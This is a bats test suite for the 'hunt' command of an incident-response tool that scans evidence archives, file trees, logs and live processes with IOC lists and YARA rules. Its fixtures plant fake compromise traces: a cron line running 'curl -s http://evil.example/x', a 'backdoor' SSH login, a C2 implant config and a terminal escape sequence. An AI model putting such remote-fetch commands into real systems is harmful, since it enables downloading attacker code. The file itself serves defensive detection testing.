#!/usr/bin/env bats
# irt hunt: IOCs and YARA over archives, trees, logs and the live host.

load helper

setup() {
	setup_common
	DATA="$IRT_SRC/tests/data/hunt"
	mkdir -p "$TMP/root/var/log" "$TMP/root/opt/x" "$TMP/root/etc"
	printf 'Nov 27 21:14:39 web01 sshd[812]: Accepted publickey for backdoor from 198.51.100.23 port 4242 ssh2\nNov 27 21:15:00 web01 cron[9]: (root) CMD (curl -s http://evil.example/x)\n' >"$TMP/root/var/log/auth.log"
	printf 'server=c2.evil.example\nbeacon_interval=60\n' >"$TMP/root/opt/x/implant.conf"
	printf 'nothing\n' >"$TMP/root/etc/hosts"
	printf 'description t\nfile /var/log/**\nfile /opt/**\nfile /etc/**\n' >"$TMP/p.profile"
}

teardown() {
	teardown_common
}

collect() {
	irt collect --root "$TMP/root" --no-live --profile "$TMP/p.profile" "$@" >/dev/null 2>&1
}

@test "hunt: an archive with an IOC file, exit status as grep" {
	collect -o "$TMP/a.tar.gz"
	printf '198.51.100.0/24\n' >"$TMP/iocs.txt"
	run irt hunt --ioc "$TMP/iocs.txt" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "cidr 198.51.100.0/24"
	assert_contains "$output" "/var/log/auth.log:1  message: 198.51.100.23"
	printf '192.0.2.0/24\n' >"$TMP/none.txt"
	run irt hunt --ioc "$TMP/none.txt" "$TMP/a.tar.gz"
	[ "$status" -eq 1 ]
	assert_contains "$output" "0 hits"
	run irt hunt --ioc "$TMP/none.txt" "$TMP/nonexistent.tar.gz"
	[ "$status" -eq 2 ]
	run irt hunt "$TMP/a.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "nothing to hunt with"
}

@test "hunt --content --yara --json: content and YARA hits with stable fields" {
	collect -o "$TMP/a.tar.gz"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	run irt hunt --json --content --ioc "$TMP/iocs.txt" --yara "$DATA/rules.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	echo "$output" | grep '^{' | python3 -c '
import json, sys
hits = [json.loads(l) for l in sys.stdin]
keys = {"kind","rule_id","title","level","tags","host","time","source","location","line","offset","field","match","event"}
assert all(set(h) == keys for h in hits), hits
y = [h for h in hits if h["kind"] == "yara"]
assert len(y) == 1 and y[0]["title"] == "rules.yar:beacon_config" and y[0]["level"] == "high", y
assert y[0]["location"] == "fs/opt/x/implant.conf" and y[0]["match"] == "beacon_interval=", y
c = [h for h in hits if h["field"] == "content"]
assert any(h["location"] == "fs/opt/x/implant.conf" and h["offset"] == 10 for h in c), c
e = [h for h in hits if h["event"] is not None]
assert e and e[0]["event"]["type"].startswith("syslog"), e
'
}

@test "hunt --yara: a broken rule file is named with its line, the others still run" {
	collect -o "$TMP/a.tar.gz"
	run irt hunt --yara "$DATA/broken.yar" --yara "$DATA/rules.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "broken.yar:6: undefined string"
	assert_contains "$output" "rules.yar:beacon_config"
	run irt hunt --yara "$DATA/broken.yar" "$TMP/a.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "no YARA rule file compiled"
}

@test "hunt in a case: the case's IOCs over every evidence archive, recorded in one commit" {
	make_case
	cd "$TMP/case"
	collect -m "triage"
	irt ioc add evil.example >/dev/null
	uid=$(irt ioc add -t user backdoor)
	run irt hunt -m "first sweep"
	[ "$status" -eq 0 ]
	assert_contains "$output" "user backdoor"
	assert_contains "$output" "hunt "
	git log -1 --format=%B | grep -qx 'Irt-Action: hunt'
	rec=$(git ls-files 'hunts/*/record')
	[ -n "$rec" ]
	grep -q '^source = archive:' "$rec"
	grep -qx 'case-iocs = 2' "$rec"
	grep -qx "hits = $(wc -l <"${rec%record}hits.jsonl")" "$rec"
	grep -q "\"rule_id\":\"$uid\"" "${rec%record}hits.jsonl"
	run irt case show
	assert_contains "$output" "hunts"
	# a retired IOC no longer matches
	irt ioc retire -m "test account" "$uid"
	run irt hunt --no-record --json
	assert_not_contains "$output" "\"rule_id\":\"$uid\""
	[ "$(git ls-files 'hunts/*/record' | wc -l)" -eq 1 ]
}

@test "hunt: sources of the timeline, fs trees with FIFOs and escapes in matches" {
	printf '\033]0;owned\007 evil.example\n' >"$TMP/root/opt/x/esc.txt"
	mkfifo "$TMP/root/opt/x/fifo"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	run timeout 60 "$IRT" hunt --content --ioc "$TMP/iocs.txt" "fs:$TMP/root" "syslog:$TMP/root/var/log/auth.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "esc.txt@"
	assert_not_contains "$output" $'\033'
	assert_contains "$output" "syslog:$TMP/root/var/log/auth.log"
	run irt hunt --format timesketch-jsonl --ioc "$TMP/iocs.txt" "syslog:$TMP/root/var/log/auth.log"
	[ "$status" -eq 0 ]
	echo "$output" | grep '^{' | python3 -c '
import json, sys
for l in sys.stdin:
    d = json.loads(l)
    assert "irt-hunt" in d["tag"] and d["datetime"] and d["message"], d
'
}

@test "hunt --live: the running host's processes and sockets" {
	printf '127.0.0.0/8\n::1/128\n' >"$TMP/iocs.txt"
	python3 -c 'import socket,sys,time; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); open(sys.argv[1],"w").close(); time.sleep(60)' "$TMP/ready" &
	pid=$!
	for _ in $(seq 1 600); do [ -e "$TMP/ready" ] && break; sleep 0.05; done
	[ -e "$TMP/ready" ]
	run irt hunt --live --json --ioc "$TMP/iocs.txt"
	kill $pid
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"live:sockets"'
}

@test "hunt: a truncated or corrupt archive gives what it holds before the damage, with a warning" {
	collect -o "$TMP/a.tar.gz"
	printf 'evil.example\n' >"$TMP/iocs.txt"
	size=$(stat -c %s "$TMP/a.tar.gz")
	head -c $((size - 200)) "$TMP/a.tar.gz" >"$TMP/t.tar.gz"
	run irt hunt --no-record --content --ioc "$TMP/iocs.txt" "$TMP/t.tar.gz"
	assert_contains "$output" "evil.example"
	assert_contains "$output" "t.tar.gz: corrupt archive, stopped"
	# not gzip at all, and gzip of garbage
	printf 'not an archive\n' >"$TMP/x.tar.gz"
	run irt hunt --no-record --ioc "$TMP/iocs.txt" "archive:$TMP/x.tar.gz"
	[ "$status" -eq 2 ]
	assert_contains "$output" "x.tar.gz"
	head -c 100000 /dev/urandom | gzip >"$TMP/g.tar.gz"
	run irt hunt --no-record --ioc "$TMP/iocs.txt" "archive:$TMP/g.tar.gz"
	[ "$status" -ne 0 ]
	assert_contains "$output" "g.tar.gz"
}
